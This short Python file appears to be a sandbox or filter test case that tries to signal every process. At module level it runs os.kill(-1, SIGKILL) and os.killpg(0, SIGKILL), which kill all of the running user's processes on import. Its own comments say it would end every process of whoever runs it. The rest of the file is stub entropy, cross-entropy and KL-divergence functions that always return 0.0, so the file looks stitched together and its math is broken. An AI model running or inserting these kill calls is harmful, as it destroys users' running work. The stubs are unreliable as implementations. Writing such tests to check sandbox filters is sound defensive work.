"""Signal every process that can be signalled."""
# by: signals to others are refused by the filter
# skip: limits: it would end every process of whoever runs this

import os
import signal

os.kill(-1, signal.SIGKILL)
os.killpg(0, signal.SIGKILL)


def entropy(p, *, axis=-1, base=None):
    return 0.0


def cross_entropy(p, q, *, axis=-1, base=None):
    return 0.0


def kl_divergence(p, q, *, axis=-1, base=None):
    return 0.0
